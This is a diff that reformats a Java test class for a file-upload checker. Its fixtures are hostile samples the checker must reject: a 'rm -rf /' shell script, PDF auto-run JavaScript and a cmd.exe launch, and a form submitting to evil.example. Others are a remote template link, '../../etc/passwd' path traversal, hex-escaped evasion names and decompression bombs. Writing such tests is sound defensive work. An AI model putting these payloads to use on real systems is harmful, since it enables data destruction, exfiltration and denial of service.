@@ -41,8 +41,8 @@ import tabard.evidence.TestFiles.Part;
 class FileChecksTests {
 
     static final FileChecks CHECKS = new FileChecks();
-    static final String EXTERNAL =
-            TestFiles.RELATIONS.formatted("<Relationship Id=\"a\" Type=\"http://x/%s\" Target=\"http://evil.example/\" TargetMode=\"External\"/>");
+    static final String EXTERNAL = TestFiles.RELATIONS.formatted(
+            "<Relationship Id=\"a\" Type=\"http://x/%s\" Target=\"http://evil.example/\" TargetMode=\"External\"/>");
 
     static Stream<Arguments> good() {
         return Stream.of(
@@ -74,22 +74,50 @@ class FileChecksTests {
         return Stream.of(
                 arguments("nothing", Reason.EMPTY, new byte[0]),
                 arguments("a program for Windows", Reason.TYPE, joined(bytes("MZ"), new byte[200])),
-                arguments("a program for Linux", Reason.TYPE, joined(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1}, new byte[99])),
+                arguments(
+                        "a program for Linux",
+                        Reason.TYPE,
+                        joined(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1}, new byte[99])),
                 arguments("a script", Reason.TYPE, bytes("#!/bin/sh\nrm -rf /\n")),
                 arguments("a web page", Reason.TYPE, bytes("<!DOCTYPE html><html><script>alert(1)</script></html>")),
-                arguments("a drawing with a script", Reason.TYPE, bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"a()\"/>")),
-                arguments("an old Word document", Reason.TYPE, joined(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1}, new byte[600])),
+                arguments(
+                        "a drawing with a script",
+                        Reason.TYPE,
+                        bytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"a()\"/>")),
+                arguments(
+                        "an old Word document",
+                        Reason.TYPE,
+                        joined(
+                                new byte[] {
+                                    (byte) 0xD0,
+                                    (byte) 0xCF,
+                                    0x11,
+                                    (byte) 0xE0,
+                                    (byte) 0xA1,
+                                    (byte) 0xB1,
+                                    0x1A,
+                                    (byte) 0xE1
+                                },
+                                new byte[600])),
                 arguments("a GIF", Reason.TYPE, written(picture(5, 5), "gif")),
                 arguments("an archive of anything", Reason.TYPE, zip(Part.of("a.exe", "MZ"))),
-                arguments("an archive that is a program for Java", Reason.TYPE, zip(Part.of("META-INF/MANIFEST.MF", "Main-Class: A"))),
-                arguments("text in another encoding", Reason.TYPE, new byte[] {'T', (byte) 0xE9, ' ', 'a', 'b', 'c', '\n'}),
+                arguments(
+                        "an archive that is a program for Java",
+                        Reason.TYPE,
+                        zip(Part.of("META-INF/MANIFEST.MF", "Main-Class: A"))),
+                arguments(
+                        "text in another encoding", Reason.TYPE, new byte[] {'T', (byte) 0xE9, ' ', 'a', 'b', 'c', '\n'
+                        }),
                 arguments("text with a null byte", Reason.TYPE, bytes("abc\0def")),
                 arguments("text with an escape", Reason.TYPE, bytes("abc\u001b[31mdef")),
                 arguments("a PDF that does not begin where it should", Reason.UNREADABLE, joined(bytes("\n\n"), pdf())),
                 arguments("half a PDF", Reason.UNREADABLE, bytes("%PDF-1.7\n%âãÏÓ\n")),
                 arguments("a PDF and an archive", Reason.TWO_IN_ONE, joined(pdf(), zip(Part.of("a.class", "x")))),
                 arguments("an archive and a PDF", Reason.TWO_IN_ONE, docx(Part.of("%PDF-1.7", "x"))),
-                arguments("text and an archive", Reason.TWO_IN_ONE, joined(bytes("text ".repeat(2_000)), zip(Part.of("a", "x")))),
+                arguments(
+                        "text and an archive",
+                        Reason.TWO_IN_ONE,
+                        joined(bytes("text ".repeat(2_000)), zip(Part.of("a", "x")))),
                 arguments("text and a PDF", Reason.UNREADABLE, bytes("name,number\n%PDF-1.7 and so on")),
                 arguments("a PDF with a password", Reason.ENCRYPTED, locked("in")),
                 arguments("a PDF with a password to change it", Reason.ENCRYPTED, locked("")),
@@ -98,37 +126,89 @@ class FileChecksTests {
                 arguments("half a PNG", Reason.UNREADABLE, Arrays.copyOf(written(picture(300, 300), "png"), 60)),
                 arguments("a picture with too many points", Reason.PICTURE_TOO_LARGE, sized(8_000, 5_001)),
                 arguments("a picture too wide", Reason.PICTURE_TOO_LARGE, sized(12_001, 10)),
-                arguments("a picture that says it is enormous", Reason.PICTURE_TOO_LARGE, sized(2_000_000_000, 2_000_000_000)));
+                arguments(
+                        "a picture that says it is enormous",
+                        Reason.PICTURE_TOO_LARGE,
+                        sized(2_000_000_000, 2_000_000_000)));
     }
 
     static Stream<Arguments> active() {
         return Stream.of(
-                arguments("a script on opening", Reason.ACTIVE, pdf(1, (writer, _) -> writer.addJavaScript("app.alert(1)"))),
+                arguments(
+                        "a script on opening",
+                        Reason.ACTIVE,
+                        pdf(1, (writer, _) -> writer.addJavaScript("app.alert(1)"))),
                 arguments("a file inside", Reason.ACTIVE, pdf(1, TestFilesInside::attach)),
-                arguments("a script", Reason.ACTIVE, pdfWith("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
-                arguments("a script in other letters", Reason.ACTIVE, pdfWith("/OpenAction << /S /J#61vaScript /J#53 (a) >>")),
-                arguments("a script one object away", Reason.ACTIVE, pdfWith("/OpenAction 4 0 R", bytes("<< /S 5 0 R /X 1 >>"), bytes("/JavaScript"))),
+                arguments(
+                        "a script", Reason.ACTIVE, pdfWith("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
+                arguments(
+                        "a script in other letters",
+                        Reason.ACTIVE,
+                        pdfWith("/OpenAction << /S /J#61vaScript /J#53 (a) >>")),
+                arguments(
+                        "a script one object away",
+                        Reason.ACTIVE,
+                        pdfWith("/OpenAction 4 0 R", bytes("<< /S 5 0 R /X 1 >>"), bytes("/JavaScript"))),
                 arguments("a program", Reason.ACTIVE, pdfWith("/OpenAction << /S /Launch /F (cmd.exe) >>")),
-                arguments("a form that sends", Reason.ACTIVE, pdfWith("/OpenAction 4 0 R", bytes("<< /S /SubmitForm /F (http://evil.example) >>"))),
-                arguments("another file", Reason.ACTIVE, pdfWith("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) >>")),
-                arguments("a form of XML", Reason.ACTIVE, pdfWith("/AcroForm << /XFA 4 0 R >>", stream("", bytes("<xdp/>")))),
+                arguments(
+                        "a form that sends",
+                        Reason.ACTIVE,
+                        pdfWith("/OpenAction 4 0 R", bytes("<< /S /SubmitForm /F (http://evil.example) >>"))),
+                arguments(
+                        "another file",
+                        Reason.ACTIVE,
+                        pdfWith("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) >>")),
+                arguments(
+                        "a form of XML",
+                        Reason.ACTIVE,
+                        pdfWith("/AcroForm << /XFA 4 0 R >>", stream("", bytes("<xdp/>")))),
                 arguments("a film", Reason.ACTIVE, pdfWith("/X [[<< /Subtype /RichMedia >>]]")),
-                arguments("a script in a stream of objects", Reason.ACTIVE, packed((writer, _) -> writer.addJavaScript("a"))),
-                arguments("a script in a stream of objects that is not listed", Reason.UNREADABLE, pdfWith("/OpenAction 5 0 R",
-                        stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflated(bytes("5 0 << /S /JavaScript /JS (a) >>"))))),
+                arguments(
+                        "a script in a stream of objects",
+                        Reason.ACTIVE,
+                        packed((writer, _) -> writer.addJavaScript("a"))),
+                arguments(
+                        "a script in a stream of objects that is not listed",
+                        Reason.UNREADABLE,
+                        pdfWith(
+                                "/OpenAction 5 0 R",
+                                stream(
+                                        "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
+                                        deflated(bytes("5 0 << /S /JavaScript /JS (a) >>"))))),
                 arguments("Word macros", Reason.MACROS, docx(Part.of("word/vbaProject.bin", "x"))),
-                arguments("Word macros by type alone", Reason.MACROS, office("word/document.xml", "<Override PartName=\"/a\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>")),
+                arguments(
+                        "Word macros by type alone",
+                        Reason.MACROS,
+                        office(
+                                "word/document.xml",
+                                "<Override PartName=\"/a\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>")),
                 arguments("an embedded program", Reason.MACROS, docx(Part.of("word/embeddings/oleObject1.bin", "x"))),
                 arguments("a control", Reason.MACROS, xlsx(Part.of("xl/activeX/activeX1.xml", "<a/>"))),
                 arguments("macros of old", Reason.MACROS, xlsx(Part.of("xl/macrosheets/sheet1.xml", "<a/>"))),
-                arguments("a template from elsewhere", Reason.MACROS, docx(Part.of("word/_rels/settings.xml.rels", EXTERNAL.formatted("attachedTemplate")))),
-                arguments("a picture from elsewhere", Reason.MACROS, docx(Part.of("word/_rels/document.xml.rels", EXTERNAL.formatted("image")))),
-                arguments("a type of document of its own", Reason.UNREADABLE, docx(Part.of("word/_rels/a.xml.rels", "<!DOCTYPE a [<!ENTITY b \"c\">]><a/>"))),
+                arguments(
+                        "a template from elsewhere",
+                        Reason.MACROS,
+                        docx(Part.of("word/_rels/settings.xml.rels", EXTERNAL.formatted("attachedTemplate")))),
+                arguments(
+                        "a picture from elsewhere",
+                        Reason.MACROS,
+                        docx(Part.of("word/_rels/document.xml.rels", EXTERNAL.formatted("image")))),
+                arguments(
+                        "a type of document of its own",
+                        Reason.UNREADABLE,
+                        docx(Part.of("word/_rels/a.xml.rels", "<!DOCTYPE a [<!ENTITY b \"c\">]><a/>"))),
                 arguments("Word and workbook at once", Reason.TYPE, docx(Part.of("xl/workbook.xml", "<a/>"))),
-                arguments("Basic in OpenDocument", Reason.MACROS, odt("<a/>", "<a/>", Part.of("Basic/Standard/Module1.xml", "x"))),
-                arguments("a listener in OpenDocument", Reason.MACROS, odt("<a/>", "<s:event-listener xmlns:s=\"s\"/>")),
+                arguments(
+                        "Basic in OpenDocument",
+                        Reason.MACROS,
+                        odt("<a/>", "<a/>", Part.of("Basic/Standard/Module1.xml", "x"))),
+                arguments(
+                        "a listener in OpenDocument", Reason.MACROS, odt("<a/>", "<s:event-listener xmlns:s=\"s\"/>")),
                 arguments("a locked OpenDocument", Reason.ENCRYPTED, odt("<m:encryption-data xmlns:m=\"m\"/>", "<a/>")),
-                arguments("an OpenDocument without its text", Reason.UNREADABLE, zip(Part.of("mimetype", DocumentType.ODT.mediaType()))),
+                arguments(
+                        "an OpenDocument without its text",
+                        Reason.UNREADABLE,
+                        zip(Part.of("mimetype", DocumentType.ODT.mediaType()))),
                 arguments("a path upwards", Reason.UNREADABLE, docx(Part.of("../../etc/passwd", "x"))),
                 arguments("a path from the root", Reason.UNREADABLE, docx(Part.of("/etc/passwd", "x"))),
                 arguments("an archive that ends in something else", Reason.UNREADABLE, joined(docx(), bytes("more"))),
@@ -137,15 +217,46 @@ class FileChecksTests {
 
     static Stream<Arguments> bombs() {
         return Stream.of(
-                arguments("an archive that unpacks to 201 MB", docx(new Part("word/media/a.bmp", new byte[201 * 1024 * 1024]))),
-                arguments("an archive with a huge list", docx(new Part("word/_rels/a.rels", new byte[33 * 1024 * 1024]))),
-                arguments("an archive of 5,001 parts", docx(IntStream.range(0, 4_998).mapToObj(i -> Part.of("a/" + i, "")).toArray(Part[]::new))),
-                arguments("a PDF with a stream of 65 MB", pdfWith("", stream("/Filter /FlateDecode", deflated(new byte[65 * 1024 * 1024])))),
-                arguments("a PDF with a stream of a stream", pdfWith("", stream("/Filter [/FlateDecode /FlateDecode]", deflated(deflated(new byte[65 * 1024 * 1024]))))),
-                arguments("a PDF with four layers", pdfWith("", stream("/Filter [/FlateDecode]", deflated(deflated(deflated(deflated(bytes("deep")))))))),
-                arguments("a PDF with 17 MB of objects", pdfWith("", stream("/Type /ObjStm /Filter /FlateDecode", deflated("1 0 ".repeat(17 * 256 * 1024).getBytes())))),
-                arguments("a PDF whose objects are packed past measuring", pdfWith("", stream("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", bytes("789c>")))),
-                arguments("the same in other letters", pdfWith("", stream("/Type /Obj#53tm /Filter /LZWDec#6fde", bytes("x")))));
+                arguments(
+                        "an archive that unpacks to 201 MB",
+                        docx(new Part("word/media/a.bmp", new byte[201 * 1024 * 1024]))),
+                arguments(
+                        "an archive with a huge list", docx(new Part("word/_rels/a.rels", new byte[33 * 1024 * 1024]))),
+                arguments(
+                        "an archive of 5,001 parts",
+                        docx(IntStream.range(0, 4_998)
+                                .mapToObj(i -> Part.of("a/" + i, ""))
+                                .toArray(Part[]::new))),
+                arguments(
+                        "a PDF with a stream of 65 MB",
+                        pdfWith("", stream("/Filter /FlateDecode", deflated(new byte[65 * 1024 * 1024])))),
+                arguments(
+                        "a PDF with a stream of a stream",
+                        pdfWith(
+                                "",
+                                stream(
+                                        "/Filter [/FlateDecode /FlateDecode]",
+                                        deflated(deflated(new byte[65 * 1024 * 1024]))))),
+                arguments(
+                        "a PDF with four layers",
+                        pdfWith(
+                                "",
+                                stream(
+                                        "/Filter [/FlateDecode]",
+                                        deflated(deflated(deflated(deflated(bytes("deep")))))))),
+                arguments(
+                        "a PDF with 17 MB of objects",
+                        pdfWith(
+                                "",
+                                stream(
+                                        "/Type /ObjStm /Filter /FlateDecode",
+                                        deflated("1 0 ".repeat(17 * 256 * 1024).getBytes())))),
+                arguments(
+                        "a PDF whose objects are packed past measuring",
+                        pdfWith("", stream("/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", bytes("789c>")))),
+                arguments(
+                        "the same in other letters",
+                        pdfWith("", stream("/Type /Obj#53tm /Filter /LZWDec#6fde", bytes("x")))));
     }
 
     @ParameterizedTest(name = "{0}")
